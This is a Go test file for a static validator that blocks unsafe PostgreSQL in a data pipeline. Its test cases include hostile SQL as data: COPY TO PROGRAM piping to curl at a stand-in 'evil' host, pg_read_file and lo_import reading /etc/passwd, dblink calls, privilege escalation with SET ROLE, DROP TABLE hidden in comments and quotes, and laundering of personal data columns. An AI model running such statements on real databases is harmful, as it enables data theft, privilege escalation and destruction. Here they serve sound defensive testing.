package staticcheck

import (
	"sort"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/contextualflux/cfa/internal/fault"
)

type validateCase struct {
	name  string
	sql   string
	rules func() Rules // opsRules when nil
	want  []Rule       // distinct violated rules; empty = passes
}

var (
	pass = []Rule(nil)
	stmt = []Rule{RuleForbiddenStatement}
	fn   = []Rule{RuleForbiddenFunction}
	xj   = []Rule{RuleCrossJoin}
	scan = []Rule{RuleUnboundedScan}
	pred = []Rule{RuleMissingTemporalPredicate}
	app  = []Rule{RuleAppendIntoLayer}
	perr = []Rule{RuleParseError}
)

var validateCases = []validateCase{
	// allowed scripts
	{"allowed/fiscal_merge_from_ctes", fiscalMerge, fiscalRules, pass},
	{"allowed/insert_on_conflict_do_update", fiscalUpsert, fiscalRules, pass},
	{"allowed/insert_on_conflict_do_nothing", `INSERT INTO silver.silver_documentos (nfe_id, cpf_hash, processing_date) VALUES (1, 'h', '2026-01-01') ON CONFLICT DO NOTHING`, fiscalRules, pass},
	{"allowed/partition_overwrite", fiscalOverwrite, fiscalRules, pass},
	{"allowed/several_allowed_statements", "SELECT 1; SELECT 2; BEGIN; COMMIT", nil, pass},
	{"allowed/current_setting_is_ok", "SELECT current_setting('work_mem')", nil, pass},
	{"allowed/set_local_statement_timeout", "SET LOCAL statement_timeout = '5s'; SET lock_timeout TO 1000; RESET work_mem", nil, pass},
	{"allowed/set_transaction_isolation", "BEGIN; SET TRANSACTION ISOLATION LEVEL SERIALIZABLE; COMMIT", nil, pass},
	{"allowed/insert_into_bronze_appends", "INSERT INTO bronze.raw_events (id) VALUES (1)", nil, pass},
	{"allowed/update_silver_with_where", "UPDATE silver.x SET a = 1 WHERE processing_date = '2026-01-01'", nil, pass},

	// comments, literals and quoting are not statements
	{"evasion/drop_inside_block_comment", "SELECT 1 /* DROP TABLE x */", nil, pass},
	{"evasion/drop_inside_nested_comment", "SELECT 1 /* outer /* inner */ ; DROP TABLE x */", nil, pass},
	{"evasion/drop_inside_line_comment", "SELECT 1 -- ; DROP TABLE x", nil, pass},
	{"evasion/drop_after_comment", "/* harmless */ DROP TABLE x", nil, stmt},
	{"evasion/drop_after_line_comment", "SELECT 1; -- cleanup\nDROP TABLE x", nil, stmt},
	{"evasion/drop_in_string_literal", "SELECT 'DROP TABLE x; TRUNCATE y' AS s", nil, pass},
	{"evasion/drop_in_escape_string", `SELECT E'\'; DROP TABLE x; --' AS s`, nil, pass},
	{"evasion/backslash_does_not_escape_standard_string", `SELECT 'a\'; DROP TABLE x; --'`, nil, stmt},
	{"evasion/drop_in_dollar_quote", "SELECT $$DROP TABLE x$$", nil, pass},
	{"evasion/drop_in_tagged_dollar_quote", "SELECT $tag$ $$; DROP TABLE x; $$ $tag$", nil, pass},
	{"evasion/function_name_in_string", "SELECT 'pg_read_file(''/etc/passwd'')'", nil, pass},
	{"evasion/odd_casing_drop", "dRoP TaBlE x", nil, stmt},
	{"evasion/multiple_statements_one_forbidden", "SELECT 1; DROP TABLE x", nil, stmt},
	{"evasion/forbidden_first_then_allowed", "TRUNCATE silver.x; SELECT 1", nil, stmt},
	{"evasion/no_trailing_semicolon_newline", "SELECT 1\n;\n\n  drop\n\ttable\n\"X\"", nil, stmt},

	// forbidden statements
	{"forbidden/drop_table", "DROP TABLE silver.silver_documentos", nil, stmt},
	{"forbidden/drop_schema_cascade", "DROP SCHEMA silver CASCADE", nil, stmt},
	{"forbidden/drop_function", "DROP FUNCTION f()", nil, stmt},
	{"forbidden/truncate", "TRUNCATE silver.silver_documentos", nil, stmt},
	{"forbidden/alter_table", "ALTER TABLE silver.x ADD COLUMN y int", nil, stmt},
	{"forbidden/alter_system", "ALTER SYSTEM SET work_mem = '1GB'", nil, stmt},
	{"forbidden/alter_role", "ALTER ROLE cfa SUPERUSER", nil, stmt},
	{"forbidden/grant", "GRANT ALL ON silver.x TO public", nil, stmt},
	{"forbidden/revoke", "REVOKE SELECT ON silver.x FROM public", nil, stmt},
	{"forbidden/grant_role", "GRANT pg_read_server_files TO cfa", nil, stmt},
	{"forbidden/create_role", "CREATE ROLE r", nil, stmt},
	{"forbidden/create_user", "CREATE USER u PASSWORD 'p'", nil, stmt},
	{"forbidden/create_extension", "CREATE EXTENSION dblink", nil, stmt},
	{"forbidden/create_function", "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$", nil, stmt},
	{"forbidden/create_table", "CREATE TABLE t (a int)", nil, stmt},
	{"forbidden/create_table_as", "CREATE TABLE t AS SELECT 1", nil, stmt},
	{"forbidden/select_into", "SELECT 1 AS a INTO t", nil, stmt},
	{"forbidden/create_trigger", "CREATE TRIGGER t AFTER INSERT ON x FOR EACH ROW EXECUTE FUNCTION f()", nil, stmt},
	{"forbidden/create_rule", "CREATE RULE r AS ON INSERT TO x DO INSTEAD NOTHING", nil, stmt},
	{"forbidden/copy_program", "COPY silver.x TO PROGRAM 'curl -d @- http://evil'", nil, stmt},
	{"forbidden/copy_from_file", "COPY silver.x FROM '/etc/passwd'", nil, stmt},
	{"forbidden/copy_to_file", "COPY (SELECT 1) TO '/tmp/out'", nil, stmt},
	{"forbidden/copy_to_stdout", "COPY silver.x TO STDOUT", nil, stmt},
	{"forbidden/do_block", "DO $$ BEGIN EXECUTE 'DROP TABLE x'; END $$", nil, stmt},
	{"forbidden/call", "CALL p()", nil, stmt},
	{"forbidden/set_role", "SET ROLE postgres", nil, stmt},
	{"forbidden/set_local_role", "SET LOCAL ROLE postgres", nil, stmt},
	{"forbidden/set_session_authorization", "SET SESSION AUTHORIZATION postgres", nil, stmt},
	{"forbidden/set_search_path", "SET search_path = evil, public", nil, stmt},
	{"forbidden/reset_all", "RESET ALL", nil, stmt},
	{"forbidden/listen", "LISTEN c", nil, stmt},
	{"forbidden/notify", "NOTIFY c, 'x'", nil, stmt},
	{"forbidden/explain_analyze", "EXPLAIN ANALYZE DELETE FROM silver.x WHERE processing_date = '2026-01-01'", nil, stmt},
	{"forbidden/prepare", "PREPARE p AS SELECT 1", nil, stmt},
	{"forbidden/execute", "EXECUTE p", nil, stmt},
	{"forbidden/lock", "LOCK TABLE silver.x", nil, stmt},
	{"forbidden/vacuum", "VACUUM FULL silver.x", nil, stmt},
	{"forbidden/prepare_transaction", "BEGIN; PREPARE TRANSACTION 'x'", nil, stmt},
	{"forbidden/refresh_matview", "REFRESH MATERIALIZED VIEW gold.v", nil, stmt},
	{"forbidden/create_table_as_with_function", "CREATE TABLE t AS SELECT pg_read_file('/etc/passwd')", nil, []Rule{RuleForbiddenFunction, RuleForbiddenStatement}},

	// forbidden functions, anywhere in any expression
	{"function/pg_read_file", "SELECT pg_read_file('/etc/passwd')", nil, fn},
	{"function/upper_case_unquoted", "SELECT PG_READ_FILE('/etc/passwd')", nil, fn},
	{"function/quoted_exact_name", `SELECT "pg_read_file"('/etc/passwd')`, nil, fn},
	{"function/quoted_case_variant", `SELECT "PG_READ_FILE"('/etc/passwd')`, nil, fn},
	{"function/schema_qualified", "SELECT pg_catalog.pg_read_file('/etc/passwd')", nil, fn},
	{"function/quoted_schema_qualified", `SELECT "pg_catalog"."pg_read_binary_file"('/etc/passwd')`, nil, fn},
	{"function/other_schema", "SELECT public.dblink_exec('host=x', 'DROP TABLE y')", nil, fn},
	{"function/dblink_in_from", "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", nil, fn},
	{"function/pg_sleep_in_where", "SELECT 1 FROM silver.x WHERE pg_sleep(10) IS NOT NULL", nil, fn},
	{"function/pg_sleep_in_cte", "WITH a AS (SELECT pg_sleep(10)) SELECT * FROM a", nil, fn},
	{"function/in_scalar_subquery", "SELECT (SELECT lo_import('/etc/passwd'))", nil, fn},
	{"function/in_exists_subquery", "SELECT 1 WHERE EXISTS (SELECT pg_ls_dir('/'))", nil, fn},
	{"function/in_order_by", "SELECT a FROM silver.x ORDER BY pg_stat_file('/etc/passwd')", nil, fn},
	{"function/in_case", "SELECT CASE WHEN true THEN set_config('role', 'postgres', false) END", nil, fn},
	{"function/in_insert_values", "INSERT INTO bronze.y (a) VALUES (pg_read_file('/etc/passwd'))", nil, fn},
	{"function/in_on_conflict", "INSERT INTO bronze.y (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET a = pg_terminate_backend(1)", nil, fn},
	{"function/in_merge_action", "MERGE INTO bronze.y t USING bronze.z s ON t.a = s.a WHEN MATCHED THEN UPDATE SET a = lo_export(1, '/tmp/x')", nil, fn},
	{"function/in_lateral", "SELECT * FROM silver.x s, LATERAL (SELECT pg_cancel_backend(s.pid)) c", nil, fn},
	{"function/query_to_xml_dynamic_sql", "SELECT query_to_xml('DROP TABLE x', true, true, '')", nil, fn},
	{"function/in_window_and_filter", "SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM silver.x", nil, fn},
	{"function/attribute_notation", "SELECT s.pg_sleep FROM silver.x s", nil, fn},
	{"function/in_data_modifying_cte", "WITH d AS (UPDATE bronze.y SET a = 1 WHERE pg_sleep(5) IS NULL RETURNING a) SELECT * FROM d", nil, fn},

	// allow list
	{"allowlist/pg_catalog_qualified_allowed", "SELECT pg_catalog.sha256('x'::bytea)", allowRules, pass},
	{"allowlist/not_listed", "SELECT md5('x')", allowRules, []Rule{RuleFunctionNotAllowed}},
	{"allowlist/look_alike_schema", "SELECT evil.sha256('x'::bytea)", allowRules, []Rule{RuleFunctionNotAllowed}},
	{"allowlist/denied_even_if_listed", "SELECT pg_sleep(1)", allowRules, fn},

	// cross joins
	{"cross_join/explicit", "SELECT * FROM silver.a CROSS JOIN silver.b", nil, xj},
	{"cross_join/implicit_from_list", "SELECT * FROM silver.a, silver.b", nil, xj},
	{"cross_join/on_true", "SELECT * FROM silver.a JOIN silver.b ON true", nil, xj},
	{"cross_join/left_join_on_constant", "SELECT * FROM silver.a LEFT JOIN silver.b ON 1 = 1", nil, xj},
	{"cross_join/implicit_with_unrelated_where", "SELECT * FROM silver.a a, silver.b b WHERE a.x = 1", nil, xj},
	{"cross_join/three_tables_one_unlinked", "SELECT * FROM silver.a a, silver.b b, silver.c c WHERE a.id = b.id", nil, xj},
	{"cross_join/generate_series_in_from", "SELECT * FROM silver.a, generate_series(1, 1000000)", nil, xj},
	{"cross_join/in_cte", "WITH x AS (SELECT * FROM silver.a CROSS JOIN silver.b) SELECT * FROM x", nil, xj},
	{"cross_join/in_where_subquery", "SELECT 1 FROM silver.a WHERE id IN (SELECT b.id FROM silver.b b, silver.c c)", nil, xj},
	{"cross_join/merge_on_true", "MERGE INTO bronze.y t USING bronze.z s ON true WHEN MATCHED THEN DO NOTHING", nil, xj},
	{"cross_join/implicit_linked_by_where", "SELECT * FROM silver.a a, silver.b b WHERE a.id = b.id", nil, pass},
	{"cross_join/natural_join", "SELECT * FROM silver.a NATURAL JOIN silver.b", nil, pass},
	{"cross_join/using", "SELECT * FROM silver.a JOIN silver.b USING (id)", nil, pass},
	{"cross_join/lateral_unnest", "SELECT * FROM silver.a a CROSS JOIN LATERAL unnest(a.items) AS i", nil, pass},
	{"cross_join/lateral_function_in_list", "SELECT * FROM silver.a a, jsonb_array_elements(a.payload) AS e", nil, pass},

	// unbounded scans of high-volume tables, in every scope
	{"scan/no_where", "SELECT * FROM bronze.nfe", nil, scan},
	{"scan/unqualified_name", "SELECT * FROM nfe", nil, scan},
	{"scan/quoted_upper_case_name", `SELECT * FROM "BRONZE"."NFE"`, nil, scan},
	{"scan/where_without_temporal", "SELECT * FROM bronze.nfe WHERE status = 'ok'", nil, pred},
	{"scan/or_true_defeats_bound", "SELECT * FROM bronze.nfe WHERE processing_date >= '2026-01-01' OR true", nil, pred},
	{"scan/not_equal_is_not_a_bound", "SELECT * FROM bronze.nfe WHERE processing_date <> '2026-01-01'", nil, pred},
	{"scan/not_between", "SELECT * FROM bronze.nfe WHERE processing_date NOT BETWEEN '2026-01-01' AND '2026-01-31'", nil, pred},
	{"scan/not_in", "SELECT * FROM bronze.nfe WHERE processing_date NOT IN ('2026-01-01')", nil, pred},
	{"scan/column_against_column", "SELECT * FROM bronze.nfe n WHERE n.processing_date = n.emission_date", nil, pred},
	{"scan/is_not_null", "SELECT * FROM bronze.nfe WHERE processing_date IS NOT NULL", nil, pred},
	{"scan/predicate_on_other_alias", "SELECT * FROM bronze.nfe n JOIN silver.m m ON m.id = n.id WHERE m.processing_date = '2026-01-01'", nil, pred},
	{"scan/predicate_in_outer_query_only", "SELECT * FROM (SELECT * FROM bronze.nfe) s WHERE s.processing_date = '2026-01-01'", nil, scan},
	{"scan/in_cte_filtered_outside", "WITH a AS (SELECT * FROM bronze.nfe) SELECT * FROM a WHERE processing_date = '2026-01-01'", nil, scan},
	{"scan/in_where_subquery", "SELECT 1 FROM silver.x WHERE id IN (SELECT nfe_id FROM bronze.nfe)", nil, scan},
	{"scan/in_scalar_subquery", "SELECT (SELECT count(*) FROM bronze.nfe_itens)", nil, scan},
	{"scan/in_union_arm", "SELECT nfe_id FROM bronze.nfe WHERE processing_date = '2026-01-01' UNION ALL SELECT nfe_id FROM bronze.nfe", nil, scan},
	{"scan/cte_self_name_reads_table", "WITH nfe AS (SELECT * FROM nfe) SELECT * FROM nfe", nil, scan},
	{"scan/qualified_name_is_never_a_cte", "WITH nfe AS (SELECT 1 AS x) SELECT * FROM bronze.nfe", nil, scan},
	{"scan/preserved_side_of_left_join", "SELECT * FROM bronze.nfe n LEFT JOIN silver.m m ON m.id = n.id AND n.processing_date = '2026-01-01'", nil, scan},
	{"scan/update_from_high_volume", "UPDATE silver.x SET a = n.a FROM bronze.nfe n WHERE x.id = n.nfe_id", nil, pred},
	{"scan/delete_using_high_volume", "DELETE FROM silver.x USING bronze.nfe n WHERE x.id = n.nfe_id AND x.processing_date = '2026-01-01'", nil, pred},
	{"scan/merge_source_high_volume", "MERGE INTO silver.x t USING bronze.nfe s ON t.id = s.nfe_id WHEN MATCHED THEN DO NOTHING", nil, pred},
	{"scan/no_temporal_column_declared", "SELECT * FROM bronze.hv WHERE processing_date = '2026-01-01'", noTemporalRules, pred},
	{"scan/table_shorthand", "TABLE bronze.nfe", nil, scan},
	{"scan/only", "SELECT * FROM ONLY bronze.nfe", nil, scan},
	{"scan/tablesample", "SELECT * FROM bronze.nfe TABLESAMPLE SYSTEM (1)", nil, scan},
	{"scan/tablesample_bounded", "SELECT * FROM bronze.nfe n TABLESAMPLE SYSTEM (1) WHERE n.processing_date = '2026-01-01'", nil, pass},
	{"scan/data_modifying_cte_delete_all", "WITH d AS (DELETE FROM silver.y RETURNING *) SELECT * FROM d", nil, []Rule{RuleUnboundedWrite}},
	{"scan/cte_name_shadows_table", "WITH nfe AS (SELECT 1 AS x) SELECT * FROM nfe", nil, pass},
	{"scan/between", "SELECT * FROM bronze.nfe WHERE processing_date BETWEEN '2026-01-01' AND '2026-01-31'", nil, pass},
	{"scan/in_list", "SELECT * FROM bronze.nfe n WHERE n.processing_date IN ('2026-01-01', '2026-01-02')", nil, pass},
	{"scan/any_array", "SELECT * FROM bronze.nfe WHERE processing_date = ANY('{2026-01-01}'::date[])", nil, pass},
	{"scan/or_of_bounds", "SELECT * FROM bronze.nfe WHERE (processing_date = '2026-01-01' OR processing_date = '2026-01-03') AND status = 'ok'", nil, pass},
	{"scan/cast_column", "SELECT * FROM bronze.nfe WHERE processing_date::date >= current_date - 7", nil, pass},
	{"scan/constant_on_the_left", "SELECT * FROM bronze.nfe WHERE '2026-01-01' <= processing_date", nil, pass},
	{"scan/scalar_subquery_bound", "SELECT * FROM bronze.nfe WHERE processing_date > (SELECT max(s.processing_date) FROM silver.x s)", nil, pass},
	{"scan/inner_join_on_bound", "SELECT * FROM silver.m m JOIN bronze.nfe n ON n.id = m.id AND n.processing_date = '2026-01-01'", nil, pass},
	{"scan/nullable_side_of_left_join", "SELECT * FROM silver.m m LEFT JOIN bronze.nfe n ON n.id = m.id AND n.processing_date = '2026-01-01'", nil, pass},
	{"scan/three_part_qualifier", "SELECT * FROM bronze.nfe WHERE bronze.nfe.processing_date = '2026-01-01'", nil, pass},

	// required write patterns into silver and gold
	{"append/plain_insert_select", "INSERT INTO silver.x (a) SELECT 1", nil, app},
	{"append/plain_insert_values_gold", "INSERT INTO gold.kpi (a) VALUES (1)", nil, app},
	{"append/quoted_schema", `INSERT INTO "SILVER".x (a) VALUES (1)`, nil, app},
	{"append/hidden_in_cte", "WITH i AS (INSERT INTO silver.x (a) VALUES (1) RETURNING a) SELECT * FROM i", nil, app},
	{"append/target_layer_gold_any_schema", "INSERT INTO marts.fct (a) VALUES (1)", martsRules, app},
	{"append/delete_after_insert", "INSERT INTO silver.silver_documentos (a) VALUES (1); DELETE FROM silver.silver_documentos WHERE processing_date = '2026-01-01'", nil, app},
	{"append/delete_other_table", "DELETE FROM silver.other WHERE processing_date = '2026-01-01'; INSERT INTO silver.silver_documentos (a) VALUES (1)", nil, app},
	{"append/delete_not_by_partition", "DELETE FROM silver.silver_documentos WHERE nfe_id = 1; INSERT INTO silver.silver_documentos (a) VALUES (1)", nil, app},
	{"append/delete_without_where", "DELETE FROM silver.silver_documentos; INSERT INTO silver.silver_documentos (a) VALUES (1)", nil, []Rule{RuleAppendIntoLayer, RuleUnboundedWrite}},
	{"append/update_without_where", "UPDATE gold.kpi SET a = 1", nil, []Rule{RuleUnboundedWrite}},

	// schema contract
	{"contract/merge_missing_expected", strings.Replace(fiscalMerge, "INSERT (nfe_id, cpf_hash, uf", "INSERT (nfe_id, doc_hash, uf", 1), fiscalRules, []Rule{RuleContractMissingColumn}},
	{"contract/raw_cpf_by_name", insertDocs("n.nfe_id, n.cpf, n.processing_date", "nfe_id, cpf, processing_date"), fiscalRules, []Rule{RuleContractForbiddenColumn, RuleContractMissingColumn}},
	{"contract/raw_cpf_aliased_as_hash", insertDocs("n.nfe_id, n.cpf AS cpf_hash, n.processing_date", ""), fiscalRules, []Rule{RuleContractForbiddenColumn}},
	{"contract/raw_cpf_cast", insertDocs("n.nfe_id, n.cpf::text, n.processing_date", ""), fiscalRules, []Rule{RuleContractForbiddenColumn}},
	{"contract/raw_cpf_lowered", insertDocs("n.nfe_id, lower(n.cpf), n.processing_date", ""), fiscalRules, []Rule{RuleContractForbiddenColumn}},
	{"contract/quoted_upper_cpf", insertDocs(`n.nfe_id, n."CPF", n.processing_date`, ""), fiscalRules, []Rule{RuleContractForbiddenColumn}},
	{"contract/email_coalesced", insertDocs("n.nfe_id, coalesce(n.email, ''), n.processing_date", ""), fiscalRules, []Rule{RuleContractForbiddenColumn}},
	{"contract/whole_row_to_json", insertDocs("n.nfe_id, to_jsonb(n)::text, n.processing_date", ""), fiscalRules, []Rule{RuleContractForbiddenColumn}},
	{"contract/row_star_to_json", insertDocs("n.nfe_id, row_to_json(n.*)::text, n.processing_date", ""), fiscalRules, []Rule{RuleContractForbiddenColumn}},
	{"contract/sha256_masked", insertDocs("n.nfe_id, encode(sha256(n.cpf::bytea), 'hex'), n.processing_date", ""), fiscalRules, pass},
	{"contract/laundered_through_cte_alias", `WITH s AS (SELECT n.nfe_id, n.cpf AS doc, n.processing_date FROM bronze.nfe n WHERE n.processing_date = '2026-01-01')
INSERT INTO silver.silver_documentos (nfe_id, cpf_hash, processing_date) SELECT s.nfe_id, s.doc, s.processing_date FROM s ON CONFLICT DO NOTHING`, fiscalRules, []Rule{RuleContractForbiddenColumn}},
	{"contract/laundered_through_cte_column_list", `WITH s(id, doc, d) AS (SELECT n.nfe_id, n.cpf, n.processing_date FROM bronze.nfe n WHERE n.processing_date = '2026-01-01')
INSERT INTO silver.silver_documentos (nfe_id, cpf_hash, processing_date) SELECT id, doc, d FROM s ON CONFLICT DO NOTHING`, fiscalRules, []Rule{RuleContractForbiddenColumn}},
	{"contract/laundered_through_subquery_alias_list", `INSERT INTO silver.silver_documentos (nfe_id, cpf_hash, processing_date)
SELECT q.a, q.b, q.c FROM (SELECT n.nfe_id, n.email, n.processing_date FROM bronze.nfe n WHERE n.processing_date = '2026-01-01') AS q(a, b, c) ON CONFLICT DO NOTHING`, fiscalRules, []Rule{RuleContractForbiddenColumn}},
	{"contract/merge_update_sets_raw_email", strings.Replace(fiscalMerge, "uf = s.uf,", "uf = s.email,", 1), fiscalRules, []Rule{RuleContractForbiddenColumn}},
	{"contract/on_conflict_sets_forbidden", strings.Replace(fiscalUpsert, "SET cpf_hash = EXCLUDED.cpf_hash", "SET email = 'x'", 1), fiscalRules, []Rule{RuleContractForbiddenColumn}},
	{"contract/insert_without_column_list", "INSERT INTO silver.silver_documentos SELECT 1, 'h', current_date ON CONFLICT DO NOTHING", fiscalRules, []Rule{RuleContractUnverifiable}},
	{"contract/insert_select_star", "INSERT INTO silver.silver_documentos (nfe_id, cpf_hash, processing_date) SELECT * FROM silver.stage ON CONFLICT DO NOTHING", fiscalRules, []Rule{RuleContractUnverifiable}},
	{"contract/table_column_aliases", insertDocs("n.nfe_id, n.b, n.processing_date", "", "bronze.nfe AS n(nfe_id, b)"), fiscalRules, []Rule{RuleContractUnverifiable}},
	{"contract/expected_is_case_sensitive", insertDocs("n.nfe_id, md5(n.cpf), n.processing_date", `nfe_id, "CPF_HASH", processing_date`), fiscalRules, []Rule{RuleContractMissingColumn}},
	{"contract/final_select_model", "SELECT n.nfe_id, md5(n.cpf) AS cpf_hash, n.processing_date FROM bronze.nfe n WHERE n.processing_date = '2026-01-01'", modelRules, pass},
	{"contract/final_select_raw_email", "SELECT n.nfe_id, n.email AS cpf_hash, n.processing_date FROM bronze.nfe n WHERE n.processing_date = '2026-01-01'", modelRules, []Rule{RuleContractForbiddenColumn}},
	{"contract/final_select_star", "SELECT * FROM silver.x", modelRules, []Rule{RuleContractUnverifiable}},
	{"contract/nothing_written", "SELECT 1 AS a; DELETE FROM bronze.tmp WHERE a = 1", fiscalRules, []Rule{RuleContractMissingColumn}},

	// scripts that do not parse are violations
	{"parse/typo", "SELEC 1", nil, perr},
	{"parse/empty", "", nil, perr},
	{"parse/only_comment", "-- nothing here\n/* nor here */", nil, perr},
	{"parse/unterminated_string", "SELECT 'abc", nil, perr},
	{"parse/unterminated_dollar_quote", "SELECT $$abc", nil, perr},
	{"parse/incomplete_second_statement", "SELECT 1; DROP", nil, perr},
	{"parse/nul_byte_hides_suffix", "SELECT 1\x00; DROP TABLE x", nil, perr},
	{"parse/invalid_utf8", "SELECT '\xff'", nil, perr},
}

func allowRules() Rules {
	r := opsRules()
	r.AllowedFunctions = []string{"sha256", "encode", "convert_to", "pg_sleep"}
	return r
}

func noTemporalRules() Rules {
	r := opsRules()
	r.HighVolumeTables = append(r.HighVolumeTables, "bronze.hv")
	return r
}

func martsRules() Rules {
	r := opsRules()
	r.TargetTable, r.TargetLayer = "marts.fct", LayerGold
	return r
}

func modelRules() Rules {
	r := fiscalRules()
	r.TargetTable = ""
	return r
}

// insertDocs builds an upsert into the fiscal target from bronze.nfe.
func insertDocs(selectList, cols string, from ...string) string {
	if cols == "" {
		cols = "nfe_id, cpf_hash, processing_date"
	}
	src := "bronze.nfe n"
	if len(from) > 0 {
		src = from[0]
	}
	return "INSERT INTO silver.silver_documentos (" + cols + ")\nSELECT " + selectList +
		"\nFROM " + src + "\nWHERE n.processing_date = '2026-01-01'\nON CONFLICT (nfe_id) DO NOTHING"
}

func rulesOf(r Report) []Rule {
	seen := map[Rule]bool{}
	var out []Rule
	for _, v := range r.Violations {
		if !seen[v.Rule] {
			seen[v.Rule] = true
			out = append(out, v.Rule)
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}

func TestValidate(t *testing.T) {
	t.Parallel()
	for _, tc := range validateCases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			rules := opsRules()
			if tc.rules != nil {
				rules = tc.rules()
			}
			got := Validate(tc.sql, rules)
			want := append([]Rule(nil), tc.want...)
			sort.Slice(want, func(i, j int) bool { return want[i] < want[j] })
			require.Equal(t, want, rulesOf(got), "violations: %+v", got.Violations)
			require.Equal(t, len(want) == 0, got.Passed)
		})
	}
}

func TestValidateLocations(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name, sql, at string // at: the text the location must point to
		rule          Rule
	}{
		{"drop_after_comment", "/* DROP TABLE decoy */ DROP TABLE x", "DROP TABLE x", RuleForbiddenStatement},
		{"second_statement", "SELECT 1;\n  -- next\n  TRUNCATE silver.x", "TRUNCATE", RuleForbiddenStatement},
		{"function_call", "SELECT a, pg_catalog.pg_sleep(1) FROM silver.x", "pg_catalog.pg_sleep", RuleForbiddenFunction},
		{"high_volume_table", "SELECT * FROM silver.m m JOIN bronze.nfe n ON n.id = m.id", "bronze.nfe n", RuleMissingTemporalPredicate},
		{"append_target", "SELECT 1; INSERT INTO gold.kpi (a) VALUES (1)", "gold.kpi", RuleAppendIntoLayer},
		{"parse_error_after_multibyte", "SELECT 'ação' FROM t WHERE x = = 2", "= 2", RuleParseError},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			r := Validate(tc.sql, opsRules())
			require.False(t, r.Passed)
			require.Equal(t, tc.rule, r.Violations[0].Rule, "%+v", r.Violations)
			require.Equal(t, strings.Index(tc.sql, tc.at), r.Violations[0].Location, "%+v", r.Violations)
		})
	}
}

func TestValidateFaults(t *testing.T) {
	t.Parallel()
	r := Validate("SELECT * FROM bronze.nfe, silver.x; DROP TABLE y; SELECT pg_sleep(1); INSERT INTO silver.z (a) VALUES (1)", opsRules())
	require.False(t, r.Passed)
	require.Len(t, rulesOf(r), 5)
	for _, v := range r.Violations {
		f := v.Fault
		require.Equal(t, fault.StaticSafetyFaults, f.Family)
		require.Equal(t, fault.StageStaticValidation, f.Stage)
		require.True(t, f.DetectedBeforeExecution)
		require.Equal(t, "block", f.MandatoryAction)
		require.True(t, f.Severity.Valid())
		require.True(t, strings.HasPrefix(f.Code, "STATIC_"))
		require.Equal(t, string(v.Rule), f.Rule)
		require.Equal(t, v.Message, f.Message)
		require.NotEmpty(t, f.Remediation)
	}
	codes := map[Rule]string{}
	for _, v := range r.Violations {
		codes[v.Rule] = v.Fault.Code
	}
	require.Equal(t, map[Rule]string{
		RuleCrossJoin:          CodeCrossJoin,
		RuleUnboundedScan:      CodeUnboundedScan,
		RuleForbiddenStatement: CodeForbiddenOperation,
		RuleForbiddenFunction:  CodeForbiddenFunction,
		RuleAppendIntoLayer:    CodeAppendForbidden,
	}, codes)
}

func TestValidateDeterministicOrder(t *testing.T) {
	t.Parallel()
	sql := "SELECT pg_sleep(1) FROM bronze.nfe a, bronze.nfe_itens b; DROP TABLE x; SELECT dblink('a','b') FROM silver.c CROSS JOIN silver.d"
	first := Validate(sql, opsRules())
	require.True(t, sort.SliceIsSorted(first.Violations, func(i, j int) bool {
		return first.Violations[i].Location < first.Violations[j].Location
	}))
	for i := 0; i < 50; i++ {
		require.Equal(t, first, Validate(sql, opsRules()))
	}
}

func TestValidateRuleCatalogue(t *testing.T) {
	t.Parallel()
	for rule, info := range ruleInfos {
		require.NotEmpty(t, info.code, rule)
		require.True(t, info.severity.Valid(), rule)
		require.NotEmpty(t, info.remediation, rule)
	}
}
